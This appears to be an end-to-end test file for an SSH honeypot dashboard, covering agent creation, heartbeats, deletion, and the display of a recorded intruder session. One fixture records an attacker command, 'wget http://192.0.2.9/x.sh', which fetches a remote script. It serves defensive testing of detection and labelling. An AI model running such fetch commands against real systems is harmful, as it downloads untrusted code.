import { randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, inject, it } from 'vitest';
import { violationsOf } from '../apps/server/test/parts/machine/violations.ts';
import { closeDashboards, type Dashboard, openDashboard } from './harness/dashboard.ts';
import { overflowOf } from './harness/watch.ts';

afterAll(closeDashboards);

/** Makes an agent by hand, and answers its key. */
async function makeAgent({ page, go }: Dashboard, name: string): Promise<string> {
  await go('/agents');
  await page.getByRole('button', { name: 'New agent' }).click();
  await page.getByRole('textbox', { name: 'Agent' }).fill(name);
  await page.getByRole('button', { name: 'Create agent' }).click();
  const dialog = page.getByRole('dialog', { name: /^Key / });
  const key = await dialog.getByRole('textbox', { name: 'The key' }).inputValue();
  expect(key).toMatch(/^wd_/);
  for (const verb of ['install-agent', 'agent']) {
    await dialog.getByText(new RegExp(`SERVICE_API_KEY=${key}[^]*npm run sundew -- ${verb}$`)).waitFor();
  }
  expect(await violationsOf(page)).toEqual([]);
  await page.keyboard.press('Escape');
  await dialog.getByRole('button', { name: 'Close without the key' }).click();
  await dialog.waitFor({ state: 'detached' });
  return key;
}

/** Calls the service as an agent does. */
async function callAsAgent(key: string, path: string, body: unknown): Promise<number> {
  const { status } = await fetch(`${inject('shared').origin}/api/v1/agent/${path}`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${key}`, 'Content-Type': 'application/json' },
    body: JSON.stringify(body),
  });
  return status;
}

describe('SSH honeypots', () => {
  it('are made with a key, show when they were heard, and are deleted', async () => {
    const dashboard = await openDashboard();
    const { page, complaints } = dashboard;
    const name = `office ${randomUUID().slice(0, 8)}`;
    const key = await makeAgent(dashboard, name);
    const row = page.getByRole('row', { name });
    await row.getByText('Not heard yet').waitFor();
    expect(await callAsAgent(key, 'heartbeat', { sessions_total: 7, os: 'linux x64' })).toBe(200);
    await page.reload();
    await row.getByText('Online').waitFor();
    await row.getByText('0 open, 7 since it was started').waitFor();

    await row.getByRole('button', { name: `Delete ${name}` }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
    await row.waitFor({ state: 'detached' });
    expect(await callAsAgent(key, 'heartbeat', {})).toBe(401);
    await page.getByRole('checkbox', { name: 'Show deleted agents' }).check();
    await row.getByText('Deleted').waitFor();
    expect(complaints).toEqual([]);
  });

  it('show what a visitor did, with its password and its recording on demand', async () => {
    const dashboard = await openDashboard();
    const { page, follow, complaints } = dashboard;
    const key = await makeAgent(dashboard, `rack ${randomUUID().slice(0, 8)}`);
    const user = `admin-${randomUUID().slice(0, 6)}`;
    const cast = [
      JSON.stringify({ version: 2, width: 80, height: 24 }),
      JSON.stringify([0.2, 'o', 'first screen\r\n']),
      JSON.stringify([1.4, 'o', '\x1b[H\x1b[2J\x1b[31mlast screen\x1b[0m\r\n']),
    ].join('\n');
    const record = {
      ...{ type: 'ssh_session', timestamp: new Date().toISOString(), source_ip: '203.0.113.9', success: true },
      ...{ username: user, password: 'hunter2', client_version: 'SSH-2.0-libssh2_1.11.0', session_duration: 14 },
      commands: ['uname -a', 'wget http://192.0.2.9/x.sh'],
      downloads: ['http://192.0.2.9/x.sh'],
      recording: gzipSync(cast).toString('base64'),
    };
    const batch = { batch_id: randomUUID(), detections: [record] };
    expect(await callAsAgent(key, 'detections', batch)).toBe(202);

    await follow('/ssh-sessions');
    await page.getByRole('row', { name: user }).getByRole('link').click();
    await page.getByRole('heading', { name: `${user} from 203.0.113.9` }).waitFor();
    await page.getByText('Ingress Tool Transfer').waitFor();
    await page.getByRole('listitem').getByText('uname -a', { exact: true }).first().waitFor();
    expect(await page.content()).not.toContain('hunter2');
    await page.getByRole('button', { name: 'Show the password' }).click();
    await page.getByText('hunter2', { exact: true }).waitFor();

    await page.getByRole('button', { name: 'Watch the recording' }).click();
    const screen = page.getByRole('region', { name: 'Terminal of the visitor' });
    await expect.poll(() => screen.textContent()).toBe('last screen');
    expect(await violationsOf(page)).toEqual([]);
    await page.setViewportSize({ width: 360, height: 780 });
    expect(await overflowOf(page)).toEqual([]);
    await page.getByRole('button', { name: 'To the start' }).click();
    await expect.poll(() => screen.textContent()).toBe('');
    await page.getByRole('button', { name: 'Play' }).click();
    await screen.getByText('first screen').waitFor();
    await screen.getByText('last screen').waitFor();
    await page.getByRole('button', { name: 'Play' }).waitFor();
    expect(complaints).toEqual([]);
  });

  it('have a page with a heading for a session that is gone', async () => {
    const { page, go } = await openDashboard();
    await go(`/ssh-sessions/${randomUUID()}`);
    await page.getByText('There is no such session any more').waitFor();
    await page.getByRole('heading', { level: 1, name: 'SSH session', exact: true }).waitFor();
    await go(`/visitors/${randomUUID()}`);
    await page.getByRole('heading', { level: 1, name: 'Visitor', exact: true }).waitFor();
  });
});
